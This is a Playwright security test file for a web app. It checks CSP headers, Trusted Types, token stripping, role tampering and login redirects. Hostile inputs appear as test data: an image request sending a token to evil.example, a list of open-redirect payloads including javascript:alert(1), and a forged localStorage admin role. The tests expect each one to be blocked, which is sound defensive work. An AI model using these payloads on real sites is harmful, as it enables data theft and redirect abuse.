import { RegistrySchema, type Guard } from "@listwise/contracts/remotes";
import { z } from "@listwise/contracts/zod";
import type { Page } from "@playwright/test";
import { DEMO } from "../fixtures/accounts";
import { isAt } from "../fixtures/is-at";
import type { PageLog } from "../fixtures/page-log";
import { adminPages, userPages } from "../fixtures/routes";
import { expect, test, type Account } from "../fixtures/test";
import { AuthPage } from "../pages/auth.page";
import { SitePage } from "../pages/site.page";

const html = { Accept: "text/html" };

for (const path of ["/", "/blog", "/login", "/dashboard", "/admin", "/no-such-page", "/no/such/page"]) {
  test(`S6 ${path} carries a strict policy`, async ({ request }) => {
    const [first, second] = [
      await request.get(path, { headers: html }),
      await request.get(path, { headers: html }),
    ];
    const headers = first.headers();
    const policy = headers["content-security-policy"] ?? "";
    const directives = new Map(policy.split(/;\s*/).map((one) => [one.split(" ")[0], one]));
    const nonce = /'nonce-([^']+)'/.exec(policy)?.[1] ?? "";

    expect(nonce.length).toBeGreaterThanOrEqual(16);
    expect(second.headers()["content-security-policy"]).not.toContain(nonce);
    expect(policy).not.toMatch(/unsafe-inline|unsafe-eval|\*|http:/);
    expect(directives.get("default-src")).toBe("default-src 'none'");
    expect(directives.get("script-src")).toBe(`script-src 'self' 'nonce-${nonce}'`);
    for (const name of ["object-src", "base-uri", "frame-ancestors"]) {
      expect(directives.get(name)).toBe(`${name} 'none'`);
    }
    expect(directives.get("require-trusted-types-for")).toBe("require-trusted-types-for 'script'");
    expect(directives.get("trusted-types")).not.toContain("default");
    expect(directives.get("report-uri")).toBe("report-uri /api/csp-reports");
    expect(headers["integrity-policy"]).toContain("blocked-destinations=(script)");
    expect(headers["strict-transport-security"]).toMatch(/max-age=(3153|6307)\d+/);
    expect(headers["x-content-type-options"]).toBe("nosniff");
    expect(headers["referrer-policy"]).toBeTruthy();
    expect(headers["x-powered-by"]).toBeUndefined();

    // Structured data never runs, so the policy requires no nonce for it.
    const scripts = (await first.text()).match(/<script(?! type="application\/ld\+json")[^>]*>/g) ?? [];
    expect(scripts.length).toBeGreaterThan(0);
    for (const script of scripts) {
      expect(script).toContain(`nonce="${nonce}"`);
      if (script.includes(" src=")) expect(script).toMatch(/integrity="sha384-/);
    }
  });
}

/** Lists the routes with a guard from the account's registry, with a value for their parameters. */
async function fetchPaths(page: Page, guard: Guard, who?: Account): Promise<string[]> {
  const headers = who && { Authorization: `Bearer ${who.session.token}` };
  const answer = await page.request.get("/remotes.json", { headers });
  const { remotes } = z.parse(RegistrySchema, await answer.json());
  const paths = remotes
    .flatMap(({ descriptor }) => descriptor.routes.filter((route) => route.guard === guard))
    .map(({ path }) => path.replace(/:\w+/g, "weather"))
    .filter((path) => path !== "/blog/weather");
  expect(paths, `routes for ${guard}`).not.toEqual([]);
  return paths;
}

const isWalked = (path: string) => [...userPages, ...adminPages].some((page) => page.path === path);

async function visit(page: Page, paths: readonly string[]): Promise<void> {
  for (const path of paths) {
    await page.goto(path);
    await expect(page.getByRole("heading", { level: 1 }).first(), path).toBeVisible();
    await expect(page.locator('[data-remote-status="failed"]')).toHaveCount(0);
  }
}

/** Removes the 404s for the value of the parameters from the log: it names nothing that exists. */
function forgetUnknown(log: PageLog): void {
  log.problems = log.problems.filter((problem) => !/404.*\/api\/.*\/weather$/.test(problem));
}

// The page log fails these tests on any policy violation, including Trusted Types, and on any console error.
test("S7 every public route without a violation", async ({ page, log }) => {
  await visit(page, await fetchPaths(page, "public"));
  expect(log.getRequests("mfe-admin"), "no file of the administration").toEqual([]);
  forgetUnknown(log);
});

// The accessibility tests check the other pages of users and administrators for violations.
test("S7 /dashboard and every other route of a user without a violation", async ({ demoPage, log }) => {
  const paths = (await fetchPaths(demoPage, "user")).filter((path) => !isWalked(path));
  await visit(demoPage, ["/dashboard", ...paths]);
  expect(log.getRequests("mfe-admin"), "no file of the administration").toEqual([]);
  forgetUnknown(log);
});

// All admin pages get the same HTML.
test("S7 /admin and every admin route with parameters without a violation", async ({
  adminPage,
  admin,
  log,
}) => {
  const paths = (await fetchPaths(adminPage, "admin", admin)).filter((path) => !isWalked(path));
  await visit(adminPage, ["/admin", ...paths]);
  forgetUnknown(log);
});

test("S7 Trusted Types are enforced, and only the named policies exist", async ({ page, log }) => {
  await page.goto("/blog");
  await expect(new SitePage(page).heading("Blog")).toBeVisible();
  const refused = await page.evaluate(() => {
    const attempts = {
      markup: () => Reflect.set(document.createElement("div"), "innerHTML", "<b>x</b>"),
      script: () => Reflect.set(document.createElement("script"), "src", "/x.js"),
      policy: () => Reflect.get(window, "trustedTypes").createPolicy("another", {}),
    };
    return Object.entries(attempts).flatMap(([name, attempt]) => {
      try {
        attempt();
        return [];
      } catch {
        return [name];
      }
    });
  });
  expect(refused).toEqual(["markup", "script", "policy"]);
  log.expectProblem(/trusted|policy violation/i);
  log.problems = log.problems.filter((problem) => !/trusted.?type|require-trusted/i.test(problem));
});

test("S8, S76 an image from another host is blocked, so a script cannot send data with one", async ({
  page,
  log,
}) => {
  await page.goto("/blog");
  const blocked = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
          resolve(`${effectiveDirective} ${blockedURI}`);
        });
        new Image().src = "https://evil.example/collect?token=secret";
      }),
  );
  expect(blocked).toMatch(/^img-src https:\/\/evil\.example/);
  log.expectProblem(/img-src/);
});

for (const path of ["/reset-password", "/remove-google", "/remove-factor", "/verify-email"]) {
  test(`S29 the token of ${path} is removed from the address before the site's code runs`, async ({
    page,
    log,
  }) => {
    const referrers: string[] = [];
    page.on("request", (request) => referrers.push(request.headers().referer ?? ""));
    await page.route("**/releases/**", (route) => route.abort());
    await page.goto(`${path}?token=secret`, { waitUntil: "commit" });
    await expect(page).toHaveURL(path);
    await page.waitForLoadState();
    expect(referrers.filter((referrer) => referrer.includes("secret"))).toEqual([]);
    log.expectProblem(/ERR_FAILED/);
  });
}

test("S10 a role edited in the browser's storage shows no admin data", async ({ page, account, log }) => {
  const { token, refreshToken, user } = account.session;
  const edited = JSON.stringify({ ...user, role: "superadmin" });
  await page.addInitScript(
    (stored) => {
      for (const [key, value] of Object.entries(stored)) localStorage.setItem(key, value);
    },
    { token, refreshToken, user: edited },
  );
  const answers: number[] = [];
  page.on("response", (response) => {
    if (response.url().includes("/api/admin")) answers.push(response.status());
  });
  for (const path of ["/admin", "/admin/users"]) {
    await page.goto(path);
    await page.waitForLoadState("networkidle");
    await expect(page.locator("body")).not.toContainText(/Total users|admin@listwise\.example/);
  }
  expect(log.getRequests("mfe-admin")).toEqual([]);
  expect(answers.filter((status) => status !== 403)).toEqual([]);
  for (const path of ["/api/admin/dashboard", "/api/admin/users"]) {
    const answer = await page.request.get(path, { headers: { Authorization: `Bearer ${token}` } });
    expect(answer.status()).toBe(403);
    expect(await answer.text()).not.toMatch(/email|total/i);
  }
});

const evil: [string, string][] = [
  ["//evil.example", "/dashboard"],
  ["/\\evil.example", "/dashboard"],
  ["https:evil.example", "/dashboard"],
  ["https://evil.example/", "/dashboard"],
  ["javascript:alert(1)", "/dashboard"],
  ["%2f%2fevil.example", "/dashboard"],
  ["/%2f/evil.example", "/dashboard"],
  ["/%5cevil.example", "/dashboard"],
  [`/${"a".repeat(5000)}`, "/dashboard"],
  ["/login", "/dashboard"],
  ["/rankings?country=de", "/rankings?country=de"],
];

test("S25 a login only redirects to paths of this site", async ({ page }) => {
  const [door, site] = [new AuthPage(page), new SitePage(page)];
  const elsewhere: string[] = [];
  page.on("framenavigated", (frame) => elsewhere.push(new URL(frame.url()).host));
  for (const [remembered, lands] of evil) {
    await door.openLogin();
    await page.evaluate((path) => sessionStorage.setItem("originPath", path), remembered);
    await door.logIn(DEMO);
    await expect(page, remembered).toHaveURL(isAt(lands));
    await expect(site.sidebar).toBeVisible();
    // Leaves the site first, because its scripts would redirect to the login.
    await page.goto("/robots.txt");
    await page.evaluate(() => localStorage.clear());
  }
  expect(new Set(elsewhere)).toEqual(new Set([new URL(page.url()).host]));
});

test("S26 after a requested /admin, the login leads a user to the dashboard", async ({ page, account }) => {
  await page.goto("/admin");
  await expect(page).toHaveURL("/login");
  await new AuthPage(page).logIn(account);
  await expect(page).toHaveURL(isAt("/dashboard"));
});
